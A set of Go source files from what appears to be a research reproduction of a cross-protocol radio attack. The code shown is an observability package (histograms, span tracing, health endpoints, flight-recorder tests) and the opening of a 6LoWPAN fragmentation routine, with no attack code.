}

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.sum
}

// Mean returns the average observation (0 when empty).
func (h *Histogram) Mean() float64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.count == 0 {
		return 0
	}
	return h.sum / float64(h.count)
}

// Quantile estimates the q-quantile (0 ≤ q ≤ 1) by linear interpolation
// within the bucket containing the target rank. The estimate is clamped
// to the observed min/max, which keeps the +Inf bucket and the first
// bucket from inventing values outside the data. Returns NaN when the
// histogram is empty or q is out of range.
func (h *Histogram) Quantile(q float64) float64 {
	if q < 0 || q > 1 || math.IsNaN(q) {
		return math.NaN()
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.count == 0 {
		return math.NaN()
	}
	rank := q * float64(h.count)
	var cum uint64
	for i, c := range h.counts {
		if c == 0 {
			continue
		}
		if float64(cum+c) < rank {
			cum += c
			continue
		}
		// Bucket i covers the target rank; interpolate across it.
		lo := h.min
		if i > 0 {
			lo = h.bounds[i-1]
		}
		hi := h.max
		if i < len(h.bounds) && h.bounds[i] < hi {
			hi = h.bounds[i]
		}
		if i == len(h.bounds) || hi < lo {
			// +Inf bucket, or a min/max clamp crossing: the best
			// point estimate is the observed extreme.
			if i == len(h.bounds) {
				return h.max
			}
			return hi
		}
		frac := (rank - float64(cum)) / float64(c)
		v := lo + (hi-lo)*frac
		if v < h.min {
			v = h.min
		}
		if v > h.max {
			v = h.max
		}
		return v
	}
	return h.max
}

// histState is a consistent copy of a histogram's internals.
type histState struct {
	bounds   []float64
	counts   []uint64
	sum      float64
	count    uint64
	min, max float64
}

// snapshot returns a consistent copy for the encoders and merge.
func (h *Histogram) snapshot() histState {
	h.mu.Lock()
	defer h.mu.Unlock()
	return histState{
		bounds: append([]float64(nil), h.bounds...),
		counts: append([]uint64(nil), h.counts...),
		sum:    h.sum,
		count:  h.count,
		min:    h.min,
		max:    h.max,
	}
}

// merge adds other's buckets into h; layouts must match. The snapshot
// is taken before h's lock so concurrent merges in opposite directions
// cannot deadlock.
func (h *Histogram) merge(other *Histogram) error {
	st := other.snapshot()
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(st.bounds) != len(h.bounds) {
		return fmt.Errorf("bucket layout mismatch: %d vs %d bounds", len(st.bounds), len(h.bounds))
	}
	for i, b := range st.bounds {
		if b != h.bounds[i] {
			return fmt.Errorf("bucket bound mismatch at %d: %g vs %g", i, b, h.bounds[i])
		}
	}
	for i, c := range st.counts {
		h.counts[i] += c
	}
	h.sum += st.sum
	h.count += st.count
	if st.min < h.min {
		h.min = st.min
	}
	if st.max > h.max {
		h.max = st.max
	}
	return nil
}

// LinearBuckets returns count bounds starting at start, spaced by width:
// start, start+width, ... Useful for small-integer metrics like chip
// distances.
func LinearBuckets(start, width float64, count int) []float64 {
	if count < 1 {
		return nil
	}
	out := make([]float64, count)
	for i := range out {
		out[i] = start + float64(i)*width
	}
	return out
}

// ExponentialBuckets returns count bounds starting at start and growing
// by factor: start, start*factor, ...
func ExponentialBuckets(start, factor float64, count int) []float64 {
	if count < 1 || start <= 0 || factor <= 1 {
		return nil
	}
	out := make([]float64, count)
	b := start
	for i := range out {
		out[i] = b
		b *= factor
	}
	return out
}

// DurationBuckets is the default layout for stage timings: 1 µs to ~4 s
// in powers of two. Wide enough for a whole Table III channel run, fine
// enough to separate the DSP stages.
var DurationBuckets = ExponentialBuckets(1e-6, 2, 23)

// DistanceBuckets is the default layout for chip Hamming-distance
// histograms: one bucket per distance 0..16 (a 31-chip block can be at
// most 31 away, but the quality gate lives well below 16).
var DistanceBuckets = LinearBuckets(0, 1, 17)
