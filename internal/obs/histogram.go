package obs

import (
	"fmt"
	"math"
	"sort"
	"sync/atomic"
)

// Histogram is a fixed-bucket histogram: observations are counted into
// buckets by upper bound, with an implicit +Inf overflow bucket, and the
// exact sum/count kept alongside. Quantiles are estimated by linear
// interpolation inside the covering bucket, the same estimator
// Prometheus's histogram_quantile uses.
//
// Observe is lock-free — one atomic bucket increment plus CAS loops for
// the sum and extrema — because histograms sit on the per-record hot
// paths (every hub publish, every queue pop, every stream flush). The
// price is that a snapshot taken during concurrent observation is only
// approximately consistent (a reader may see a bucket increment before
// the matching sum update); for telemetry that skew is harmless and
// transient, and the total count is always derived from the buckets so
// cumulative series never disagree with _count.
type Histogram struct {
	bounds  []float64       // ascending finite upper bounds, immutable
	counts  []atomic.Uint64 // len(bounds)+1; last is the +Inf bucket
	sumBits atomic.Uint64   // IEEE-754 bits of the running sum
	minBits atomic.Uint64   // IEEE-754 bits of the observed minimum
	maxBits atomic.Uint64   // IEEE-754 bits of the observed maximum
}

func newHistogram(bounds []float64) *Histogram {
	bs := append([]float64(nil), bounds...)
	sort.Float64s(bs)
	// Drop non-finite and duplicate bounds; +Inf is implicit.
	dst := bs[:0]
	for i, b := range bs {
		if math.IsInf(b, 0) || math.IsNaN(b) {
			continue
		}
		if i > 0 && len(dst) > 0 && b == dst[len(dst)-1] {
			continue
		}
		dst = append(dst, b)
	}
	bs = dst
	h := &Histogram{
		bounds: bs,
		counts: make([]atomic.Uint64, len(bs)+1),
	}
	h.minBits.Store(math.Float64bits(math.Inf(1)))
	h.maxBits.Store(math.Float64bits(math.Inf(-1)))
	return h
}

// addFloat atomically adds v to the float64 whose bits live in bits.
func addFloat(bits *atomic.Uint64, v float64) {
	for {
		old := bits.Load()
		if bits.CompareAndSwap(old, math.Float64bits(math.Float64frombits(old)+v)) {
			return
		}
	}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	if math.IsNaN(v) {
		return
	}
	// First bound >= v, as sort.SearchFloat64s computes it but inlined:
	// the closure-based sort.Search costs more than the search itself on
	// this per-record path.
	lo, hi := 0, len(h.bounds)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if h.bounds[mid] < v {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	h.counts[lo].Add(1)
	addFloat(&h.sumBits, v)
	for {
		old := h.minBits.Load()
		if v >= math.Float64frombits(old) || h.minBits.CompareAndSwap(old, math.Float64bits(v)) {
			break
		}
	}
	for {
		old := h.maxBits.Load()
		if v <= math.Float64frombits(old) || h.maxBits.CompareAndSwap(old, math.Float64bits(v)) {
			break
		}
	}
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 {
	var total uint64
	for i := range h.counts {
		total += h.counts[i].Load()
	}
	return total
}

// Sum returns the sum of all observed values.
func (h *Histogram) Sum() float64 {
	return math.Float64frombits(h.sumBits.Load())
}

// Mean returns the average observation (0 when empty).
func (h *Histogram) Mean() float64 {
	count := h.Count()
	if count == 0 {
		return 0
	}
	return h.Sum() / float64(count)
}

// Quantile estimates the q-quantile (0 ≤ q ≤ 1) by linear interpolation
// within the bucket containing the target rank. The estimate is clamped
// to the observed min/max, which keeps the +Inf bucket and the first
// bucket from inventing values outside the data. Returns NaN when the
// histogram is empty or q is out of range.
func (h *Histogram) Quantile(q float64) float64 {
	if q < 0 || q > 1 || math.IsNaN(q) {
		return math.NaN()
	}
	st := h.snapshot()
	if st.count == 0 {
		return math.NaN()
	}
	rank := q * float64(st.count)
	var cum uint64
	for i, c := range st.counts {
		if c == 0 {
			continue
		}
		if float64(cum+c) < rank {
			cum += c
			continue
		}
		// Bucket i covers the target rank; interpolate across it.
		lo := st.min
		if i > 0 {
			lo = st.bounds[i-1]
		}
		hi := st.max
		if i < len(st.bounds) && st.bounds[i] < hi {
			hi = st.bounds[i]
		}
		if i == len(st.bounds) || hi < lo {
			// +Inf bucket, or a min/max clamp crossing: the best
			// point estimate is the observed extreme.
			if i == len(st.bounds) {
				return st.max
			}
			return hi
		}
		frac := (rank - float64(cum)) / float64(c)
		v := lo + (hi-lo)*frac
		if v < st.min {
			v = st.min
		}
		if v > st.max {
			v = st.max
		}
		return v
	}
	return st.max
}

// histState is a copy of a histogram's internals, approximately
// consistent under concurrent observation; count is derived from the
// bucket counts so cumulative bucket series always sum to it exactly.
type histState struct {
	bounds   []float64
	counts   []uint64
	sum      float64
	count    uint64
	min, max float64
}

// snapshot returns a copy for the encoders, quantiles and merge.
func (h *Histogram) snapshot() histState {
	st := histState{
		bounds: append([]float64(nil), h.bounds...),
		counts: make([]uint64, len(h.counts)),
		sum:    math.Float64frombits(h.sumBits.Load()),
		min:    math.Float64frombits(h.minBits.Load()),
		max:    math.Float64frombits(h.maxBits.Load()),
	}
	for i := range h.counts {
		c := h.counts[i].Load()
		st.counts[i] = c
		st.count += c
	}
	return st
}

// merge adds other's buckets into h; layouts must match.
func (h *Histogram) merge(other *Histogram) error {
	st := other.snapshot()
	if len(st.bounds) != len(h.bounds) {
		return fmt.Errorf("bucket layout mismatch: %d vs %d bounds", len(st.bounds), len(h.bounds))
	}
	for i, b := range st.bounds {
		if b != h.bounds[i] {
			return fmt.Errorf("bucket bound mismatch at %d: %g vs %g", i, b, h.bounds[i])
		}
	}
	for i, c := range st.counts {
		h.counts[i].Add(c)
	}
	addFloat(&h.sumBits, st.sum)
	for {
		old := h.minBits.Load()
		if st.min >= math.Float64frombits(old) || h.minBits.CompareAndSwap(old, math.Float64bits(st.min)) {
			break
		}
	}
	for {
		old := h.maxBits.Load()
		if st.max <= math.Float64frombits(old) || h.maxBits.CompareAndSwap(old, math.Float64bits(st.max)) {
			break
		}
	}
	return nil
}

// LinearBuckets returns count bounds starting at start, spaced by width:
// start, start+width, ... Useful for small-integer metrics like chip
// distances.
func LinearBuckets(start, width float64, count int) []float64 {
	if count < 1 {
		return nil
	}
	out := make([]float64, count)
	for i := range out {
		out[i] = start + float64(i)*width
	}
	return out
}

// ExponentialBuckets returns count bounds starting at start and growing
// by factor: start, start*factor, ...
func ExponentialBuckets(start, factor float64, count int) []float64 {
	if count < 1 || start <= 0 || factor <= 1 {
		return nil
	}
	out := make([]float64, count)
	b := start
	for i := range out {
		out[i] = b
		b *= factor
	}
	return out
}

// DurationBuckets is the default layout for stage timings: 1 µs to ~4 s
// in powers of two. Wide enough for a whole Table III channel run, fine
// enough to separate the DSP stages.
var DurationBuckets = ExponentialBuckets(1e-6, 2, 23)

// DistanceBuckets is the default layout for chip Hamming-distance
// histograms: one bucket per distance 0..16 (a 31-chip block can be at
// most 31 away, but the quality gate lives well below 16).
var DistanceBuckets = LinearBuckets(0, 1, 17)
