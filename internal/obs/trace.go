package obs

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"
)

// Attr is one key/value annotation on a span (a frame counter, a chip
// distance, a channel number...).
type Attr struct {
	Key   string `json:"key"`
	Value string `json:"value"`
}

// Span is one timed pipeline stage. Spans nest: a span started while
// another is open becomes its child, so a Receive span naturally
// contains aa-correlate and despread children.
type Span struct {
	Name     string  `json:"name"`
	StartNs  int64   `json:"start_ns"` // offset from the trace start
	DurNs    int64   `json:"dur_ns"`
	Attrs    []Attr  `json:"attrs,omitempty"`
	Children []*Span `json:"children,omitempty"`

	trace *Trace
	start time.Time
	done  bool
}

// SetAttr annotates the span. Values go through fmt for convenience;
// attach numbers directly.
func (s *Span) SetAttr(key string, value any) *Span {
	if s == nil {
		return s
	}
	s.trace.mu.Lock()
	s.Attrs = append(s.Attrs, Attr{Key: key, Value: fmt.Sprint(value)})
	s.trace.mu.Unlock()
	return s
}

// End closes the span and returns its duration. Ending a span that has
// open children closes them too (in practice: an early return on error).
func (s *Span) End() time.Duration {
	if s == nil {
		return 0
	}
	now := time.Now()
	t := s.trace
	t.mu.Lock()
	defer t.mu.Unlock()
	idx := -1
	for i := len(t.stack) - 1; i >= 0; i-- {
		if t.stack[i] == s {
			idx = i
			break
		}
	}
	if idx < 0 {
		// Already ended (or the trace was reset underneath us).
		if !s.done {
			s.done = true
			s.DurNs = now.Sub(s.start).Nanoseconds()
		}
		return time.Duration(s.DurNs)
	}
	// Pop the stack down to (and including) s, closing any dangling
	// children along the way (in practice: an early return on error).
	for i := len(t.stack) - 1; i >= idx; i-- {
		sp := t.stack[i]
		if !sp.done {
			sp.done = true
			sp.DurNs = now.Sub(sp.start).Nanoseconds()
		}
	}
	t.stack = t.stack[:idx]
	return time.Duration(s.DurNs)
}

// Duration returns the span's recorded duration (zero until End).
func (s *Span) Duration() time.Duration {
	if s == nil {
		return 0
	}
	s.trace.mu.Lock()
	defer s.trace.mu.Unlock()
	return time.Duration(s.DurNs)
}

// Trace collects the spans of one pipeline traversal (typically one
// frame's TX→medium→RX round trip). It is safe for concurrent use, but
// the parent/child nesting follows start order, so drive one trace from
// one goroutine at a time for meaningful trees.
type Trace struct {
	mu    sync.Mutex
	name  string
	epoch time.Time
	roots []*Span
	stack []*Span
}

// NewTrace starts an empty trace.
func NewTrace(name string) *Trace {
	return &Trace{name: name, epoch: time.Now()}
}

// Name returns the trace's name.
func (t *Trace) Name() string { return t.name }

// Start opens a span nested under the innermost open span (or at the
// root). Close it with End.
func (t *Trace) Start(name string) *Span {
	now := time.Now()
	s := &Span{Name: name, trace: t, start: now, StartNs: now.Sub(t.epoch).Nanoseconds()}
	t.mu.Lock()
	if n := len(t.stack); n > 0 {
		parent := t.stack[n-1]
		parent.Children = append(parent.Children, s)
	} else {
		t.roots = append(t.roots, s)
	}
	t.stack = append(t.stack, s)
	t.mu.Unlock()
	return s
}

// Reset drops every recorded span and restarts the clock, keeping the
// trace attached to whatever pipeline holds it.
func (t *Trace) Reset() {
	t.mu.Lock()
	t.roots, t.stack = nil, nil
	t.epoch = time.Now()
	t.mu.Unlock()
}

// Roots returns the completed span forest (shared structures; treat as
// read-only).
func (t *Trace) Roots() []*Span {
	t.mu.Lock()
	defer t.mu.Unlock()
	return append([]*Span(nil), t.roots...)
}

// Tree renders the trace as a flame-ordered text tree: spans in start
// order, children indented under parents, one line per span with its
// start offset, duration and attributes.
func (t *Trace) Tree() string {
	t.mu.Lock()
	defer t.mu.Unlock()
	var b strings.Builder
	fmt.Fprintf(&b, "trace %s\n", t.name)
	for _, root := range t.roots {
		writeSpan(&b, root, 1)
	}
	return b.String()
}

func writeSpan(b *strings.Builder, s *Span, depth int) {
	b.WriteString(strings.Repeat("  ", depth))
	fmt.Fprintf(b, "%-14s %12s  +%s", s.Name,
		time.Duration(s.DurNs).Round(time.Microsecond),
		time.Duration(s.StartNs).Round(time.Microsecond))
	if len(s.Attrs) > 0 {
		attrs := make([]string, len(s.Attrs))
		for i, a := range s.Attrs {
			attrs[i] = a.Key + "=" + a.Value
		}
		sort.Strings(attrs)
		fmt.Fprintf(b, "  [%s]", strings.Join(attrs, " "))
	}
	b.WriteByte('\n')
	for _, c := range s.Children {
		writeSpan(b, c, depth+1)
	}
}

// JSON renders the span forest as indented JSON.
func (t *Trace) JSON() ([]byte, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	return json.MarshalIndent(struct {
		Name  string  `json:"name"`
		Spans []*Span `json:"spans"`
	}{t.name, t.roots}, "", "  ")
}
