package obs

import (
	"context"
	"encoding/json"
	"net/http"
	"sort"
	"sync"
	"time"
)

// HealthStatus orders component health from best to worst.
type HealthStatus int

// Component health states. Degraded means the component is limping but
// the process can still serve (e.g. the pcap tee hit a write error);
// Down means it cannot (e.g. a listener's accept loop exited).
const (
	HealthOK HealthStatus = iota
	HealthDegraded
	HealthDown
)

// String implements fmt.Stringer.
func (s HealthStatus) String() string {
	switch s {
	case HealthOK:
		return "ok"
	case HealthDegraded:
		return "degraded"
	case HealthDown:
		return "down"
	default:
		return "unknown"
	}
}

// ProbeFunc checks one component on demand; a non-nil error marks it
// Down with the error as detail. Probes must be safe to call from any
// goroutine and should be cheap — they run on every /readyz request and
// every prober tick.
type ProbeFunc func() error

// Health is a registry of named component health probes feeding the
// /healthz and /readyz endpoints and the wazabee_health_* gauges.
// Components report either by pull (a ProbeFunc evaluated at check
// time), by push (SetOK/SetDegraded/SetDown on the returned handle), or
// both — the worse of the two states wins, so a pushed degradation is
// never masked by a passing probe.
type Health struct {
	reg   *Registry
	start time.Time

	mu         sync.Mutex
	components []*HealthComponent
	gReady     *Gauge
	gUptime    *Gauge
}

// HealthComponent is one registered component's handle.
type HealthComponent struct {
	h        *Health
	name     string
	critical bool
	probe    ProbeFunc
	gauge    *Gauge

	mu     sync.Mutex
	status HealthStatus
	detail string
	since  time.Time
}

// NewHealth builds a health registry reporting into reg; nil falls back
// to the process default registry.
func NewHealth(reg *Registry) *Health {
	r := Or(reg)
	return &Health{
		reg:     r,
		start:   time.Now(),
		gReady:  r.Gauge("wazabee_health_ready"),
		gUptime: r.Gauge("wazabee_uptime_seconds"),
	}
}

// Register adds a component. critical components gate readiness: one of
// them Down flips /readyz to 503. probe may be nil for push-only
// components. Registering the same name twice returns the existing
// handle (the later probe, if any, replaces the earlier).
func (h *Health) Register(name string, critical bool, probe ProbeFunc) *HealthComponent {
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, c := range h.components {
		if c.name == name {
			if probe != nil {
				c.probe = probe
			}
			return c
		}
	}
	c := &HealthComponent{
		h:        h,
		name:     name,
		critical: critical,
		probe:    probe,
		gauge:    h.reg.Gauge("wazabee_health_status", "component", name),
		since:    time.Now(),
	}
	h.components = append(h.components, c)
	sort.Slice(h.components, func(i, j int) bool { return h.components[i].name < h.components[j].name })
	return c
}

// set transitions the pushed state, keeping the transition time.
func (c *HealthComponent) set(st HealthStatus, detail string) {
	c.mu.Lock()
	if c.status != st || c.detail != detail {
		c.status = st
		c.detail = detail
		c.since = time.Now()
	}
	c.mu.Unlock()
}

// SetOK marks the component healthy.
func (c *HealthComponent) SetOK() { c.set(HealthOK, "") }

// SetDegraded marks the component limping, with a reason.
func (c *HealthComponent) SetDegraded(detail string) { c.set(HealthDegraded, detail) }

// SetDown marks the component dead, with a reason.
func (c *HealthComponent) SetDown(detail string) { c.set(HealthDown, detail) }

// check evaluates the component now: the worse of the pushed state and
// the probe result.
func (c *HealthComponent) check() ComponentHealth {
	c.mu.Lock()
	st, detail, since := c.status, c.detail, c.since
	probe := c.probe
	c.mu.Unlock()
	if probe != nil {
		if err := probe(); err != nil && st < HealthDown {
			st, detail = HealthDown, err.Error()
		}
	}
	c.gauge.Set(float64(st))
	return ComponentHealth{
		Name:     c.name,
		Status:   st.String(),
		Critical: c.critical,
		Detail:   detail,
		Since:    since,
		status:   st,
	}
}

// ComponentHealth is one component's state in a snapshot.
type ComponentHealth struct {
	Name     string    `json:"name"`
	Status   string    `json:"status"`
	Critical bool      `json:"critical"`
	Detail   string    `json:"detail,omitempty"`
	Since    time.Time `json:"since"`

	status HealthStatus
}

// HealthSnapshot is one full evaluation of the registry.
type HealthSnapshot struct {
	// Status is the worst component status ("ok" when empty).
	Status string `json:"status"`
	// Ready reports whether every critical component is not Down.
	Ready         bool              `json:"ready"`
	UptimeSeconds float64           `json:"uptime_seconds"`
	Components    []ComponentHealth `json:"components"`
}

// Check evaluates every component (probes included), refreshes the
// wazabee_health_* gauges and returns the snapshot.
func (h *Health) Check() HealthSnapshot {
	h.mu.Lock()
	comps := append([]*HealthComponent(nil), h.components...)
	h.mu.Unlock()

	snap := HealthSnapshot{
		Ready:         true,
		UptimeSeconds: time.Since(h.start).Seconds(),
		Components:    make([]ComponentHealth, 0, len(comps)),
	}
	worst := HealthOK
	for _, c := range comps {
		ch := c.check()
		if ch.status > worst {
			worst = ch.status
		}
		if ch.Critical && ch.status == HealthDown {
			snap.Ready = false
		}
		snap.Components = append(snap.Components, ch)
	}
	snap.Status = worst.String()
	ready := 0.0
	if snap.Ready {
		ready = 1
	}
	h.gReady.Set(ready)
	h.gUptime.Set(snap.UptimeSeconds)
	return snap
}

// Run re-evaluates the registry every period until ctx is cancelled, so
// the gauges stay fresh between scrapes even when nobody hits the
// endpoints.
func (h *Health) Run(ctx context.Context, period time.Duration) {
	if period <= 0 {
		period = 2 * time.Second
	}
	ticker := time.NewTicker(period)
	defer ticker.Stop()
	h.Check()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			h.Check()
		}
	}
}

// serve writes one evaluated snapshot; ready controls whether a
// not-ready registry answers 503.
func (h *Health) serve(w http.ResponseWriter, gate bool) {
	snap := h.Check()
	code := http.StatusOK
	if gate && !snap.Ready {
		code = http.StatusServiceUnavailable
	}
	b, err := json.MarshalIndent(snap, "", "  ")
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	_, _ = w.Write(b)
}

// Healthz is the liveness endpoint: always 200 while the process can
// answer, with the full component snapshot as the body.
func (h *Health) Healthz() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { h.serve(w, false) })
}

// Readyz is the readiness endpoint: 200 while every critical component
// is up, 503 otherwise — same JSON body either way.
func (h *Health) Readyz() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { h.serve(w, true) })
}
