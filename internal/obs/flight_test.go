package obs

import (
	"encoding/json"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestFlightRecordSnapshot checks the basic contract: events come back
// whole, oldest first, and the ring never exceeds its bound.
func TestFlightRecordSnapshot(t *testing.T) {
	f := NewFlight(16)
	for i := 0; i < 40; i++ {
		f.Record(FlightEvent{Kind: "frame", Component: "test", Frame: int64(i), Detail: "pass"})
	}
	events := f.Snapshot()
	if len(events) != 16 {
		t.Fatalf("retained %d events, want capacity 16", len(events))
	}
	if f.Recorded() != 40 {
		t.Fatalf("recorded %d, want 40", f.Recorded())
	}
	for i, ev := range events {
		if i > 0 && ev.Seq <= events[i-1].Seq {
			t.Fatalf("snapshot not ordered: seq %d after %d", ev.Seq, events[i-1].Seq)
		}
		if ev.Frame != int64(ev.Seq-1) {
			t.Errorf("event %d: frame %d does not match seq %d", i, ev.Frame, ev.Seq)
		}
	}
	// The retained window is the most recent events.
	if events[0].Seq != 25 || events[15].Seq != 40 {
		t.Errorf("retained window [%d, %d], want [25, 40]", events[0].Seq, events[15].Seq)
	}
}

// TestFlightMinimumCapacity checks the capacity floor.
func TestFlightMinimumCapacity(t *testing.T) {
	if got := NewFlight(0).Capacity(); got != 8 {
		t.Fatalf("capacity %d, want floor 8", got)
	}
}

// TestFlightConcurrentHammer race-hammers the recorder: many concurrent
// writers while readers snapshot and hit the HTTP handler. The ring
// must never exceed its bound and every surfaced event must be
// internally consistent (no torn reads).
func TestFlightConcurrentHammer(t *testing.T) {
	const (
		writers   = 8
		perWriter = 5000
		capacity  = 64
	)
	f := NewFlight(capacity)
	var wg sync.WaitGroup
	stopReaders := make(chan struct{})

	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				f.Record(FlightEvent{
					Kind:       "drop",
					Component:  "hub",
					Frame:      int64(i),
					Subscriber: "sub",
					Latency:    time.Duration(i),
					Detail:     "hammer",
				})
			}
		}(w)
	}

	var readers sync.WaitGroup
	for r := 0; r < 4; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				select {
				case <-stopReaders:
					return
				default:
				}
				events := f.Snapshot()
				if len(events) > capacity {
					t.Errorf("snapshot of %d events exceeds capacity %d", len(events), capacity)
					return
				}
				for _, ev := range events {
					// Torn events would mix fields from different writes;
					// every field here is tied to the same record call.
					if ev.Kind != "drop" || ev.Component != "hub" || ev.Detail != "hammer" {
						t.Errorf("torn event surfaced: %+v", ev)
						return
					}
					if ev.Frame != int64(ev.Latency) {
						t.Errorf("torn event: frame %d vs latency %d", ev.Frame, ev.Latency)
						return
					}
				}
				rec := httptest.NewRecorder()
				f.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/flight", nil))
				if rec.Code != 200 {
					t.Errorf("/debug/flight status %d", rec.Code)
					return
				}
			}
		}()
	}

	wg.Wait()
	close(stopReaders)
	readers.Wait()

	if got := f.Recorded(); got != writers*perWriter {
		t.Fatalf("recorded %d events, want %d", got, writers*perWriter)
	}
	if n := len(f.Snapshot()); n != capacity {
		t.Fatalf("retained %d events after hammer, want full ring of %d", n, capacity)
	}
}

// TestFlightServeHTTP checks the JSON shape and the n/kind filters.
func TestFlightServeHTTP(t *testing.T) {
	f := NewFlight(32)
	for i := 0; i < 10; i++ {
		kind := "frame"
		if i%2 == 1 {
			kind = "drop"
		}
		f.Record(FlightEvent{Kind: kind, Component: "test", Frame: int64(i)})
	}
	get := func(target string) (int, struct {
		Capacity int           `json:"capacity"`
		Recorded uint64        `json:"recorded"`
		Events   []FlightEvent `json:"events"`
	}) {
		rec := httptest.NewRecorder()
		f.ServeHTTP(rec, httptest.NewRequest("GET", target, nil))
		var payload struct {
			Capacity int           `json:"capacity"`
			Recorded uint64        `json:"recorded"`
			Events   []FlightEvent `json:"events"`
		}
		if rec.Code == 200 {
			if err := json.Unmarshal(rec.Body.Bytes(), &payload); err != nil {
				t.Fatalf("GET %s: bad JSON: %v", target, err)
			}
		}
		return rec.Code, payload
	}

	code, payload := get("/debug/flight")
	if code != 200 || payload.Capacity != 32 || payload.Recorded != 10 || len(payload.Events) != 10 {
		t.Fatalf("full dump: code=%d payload=%+v", code, payload)
	}
	code, payload = get("/debug/flight?kind=drop")
	if code != 200 || len(payload.Events) != 5 {
		t.Fatalf("kind filter: code=%d events=%d, want 5", code, len(payload.Events))
	}
	code, payload = get("/debug/flight?n=3")
	if code != 200 || len(payload.Events) != 3 || payload.Events[0].Frame != 7 {
		t.Fatalf("n filter: code=%d events=%+v", code, payload.Events)
	}
	if code, _ := get("/debug/flight?n=bogus"); code != 400 {
		t.Fatalf("bad n: code=%d, want 400", code)
	}
}

// TestFlightDumpSummary exercises the post-mortem text forms.
func TestFlightDumpSummary(t *testing.T) {
	f := NewFlight(16)
	if got := f.Summary(); got != "empty" {
		t.Fatalf("empty summary %q", got)
	}
	f.Record(FlightEvent{Kind: "frame", Component: "daemon", Frame: 3, Latency: time.Millisecond, Detail: "pass"})
	f.Record(FlightEvent{Kind: "drop", Component: "hub", Frame: -1, Subscriber: "tcp:1"})
	f.Record(FlightEvent{Kind: "drop", Component: "hub", Frame: -1, Subscriber: "tcp:1"})
	if got := f.Summary(); got != "drop=2 frame=1" {
		t.Fatalf("summary %q, want \"drop=2 frame=1\"", got)
	}
	var b strings.Builder
	f.Dump(&b)
	dump := b.String()
	for _, want := range []string{"3 events retained", "frame=3", "sub=tcp:1", "pass", "1ms"} {
		if !strings.Contains(dump, want) {
			t.Errorf("dump missing %q:\n%s", want, dump)
		}
	}
}
