// Package obs is the observability substrate of the reproduction: a
// dependency-free metrics registry (counters, gauges, fixed-bucket
// histograms with quantile estimation), a lightweight span tracer for
// timing named pipeline stages, and the glue that lets every layer of
// the TX→medium→RX attack path report what it saw without coupling the
// DSP code to any particular consumer.
//
// The registry encodes to both the Prometheus text exposition format
// (for scraping or the -metrics-addr flag of the commands) and a JSON
// snapshot (for programmatic inspection, expvar-style). The tracer
// renders a flame-ordered text tree or JSON.
//
// Everything is safe for concurrent use; counters and gauges are
// lock-free, histograms take a short per-histogram lock. All of it is
// standard library only, matching the module's empty dependency set.
package obs

import "time"

// defaultRegistry is the process-wide registry instrumented code falls
// back to when no explicit registry is wired in.
var defaultRegistry = NewRegistry()

// Default returns the process-wide default registry.
func Default() *Registry {
	return defaultRegistry
}

// StageSecondsMetric is the shared histogram name for per-stage pipeline
// timings; the stage is carried in the "stage" label so one metric family
// covers modulate, medium, AA-correlate, demod, despread and decode.
const StageSecondsMetric = "wazabee_stage_seconds"

// Stage times one named pipeline stage: it opens a span on tr (when tr is
// non-nil), and on completion observes the elapsed seconds into the
// reg's per-stage duration histogram (when reg is non-nil). Use it as
//
//	done := obs.Stage(reg, tr, "demod")
//	... stage work ...
//	done()
func Stage(reg *Registry, tr *Trace, stage string) func() {
	var span *Span
	if tr != nil {
		span = tr.Start(stage)
	}
	start := time.Now()
	return func() {
		elapsed := time.Since(start)
		if span != nil {
			span.End()
		}
		if reg != nil {
			reg.Histogram(StageSecondsMetric, DurationBuckets, "stage", stage).
				Observe(elapsed.Seconds())
		}
	}
}

// Or returns reg when non-nil and the process default registry
// otherwise — the idiom instrumented structs use to resolve their
// optional Obs field.
func Or(reg *Registry) *Registry {
	if reg != nil {
		return reg
	}
	return defaultRegistry
}
