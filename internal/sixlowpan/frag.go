package sixlowpan

// RFC 4944 fragmentation: IPv6 requires a 1280-byte MTU while an
// 802.15.4 frame carries at most 127 bytes, so 6LoWPAN splits datagrams
// into a FRAG1 header fragment and FRAGN continuation fragments keyed by
// a 16-bit datagram tag.

import (
	"encoding/binary"
	"fmt"
	"sort"
)

// Fragment dispatch prefixes (top 5 bits).
const (
	frag1Dispatch = 0xc0 // 11000
	fragNDispatch = 0xe0 // 11100
)

// MaxDatagramSize is the largest datagram the 11-bit size field carries.
const MaxDatagramSize = 2047

// Fragment splits a datagram into link-layer payloads no longer than
// maxFragment bytes each (headers included). Datagrams that already fit
// are returned unfragmented as a single payload — unless their first
// byte collides with a fragment dispatch value (top bits 11000/11100),
// in which case a single FRAG1 covering the whole datagram is emitted
// so the receiver cannot misparse the raw payload as a fragment header.
func Fragment(datagram []byte, tag uint16, maxFragment int) ([][]byte, error) {
	if len(datagram) == 0 {
		return nil, fmt.Errorf("sixlowpan: empty datagram")
	}
	if len(datagram) > MaxDatagramSize {
		return nil, fmt.Errorf("sixlowpan: datagram length %d exceeds %d", len(datagram), MaxDatagramSize)
	}
	ambiguous := datagram[0]&0xf8 == frag1Dispatch || datagram[0]&0xf8 == fragNDispatch
	if len(datagram) <= maxFragment && !ambiguous {
		return [][]byte{append([]byte{}, datagram...)}, nil
	}
	if maxFragment < 16 {
		return nil, fmt.Errorf("sixlowpan: fragment size %d too small", maxFragment)
	}

	size := uint16(len(datagram))
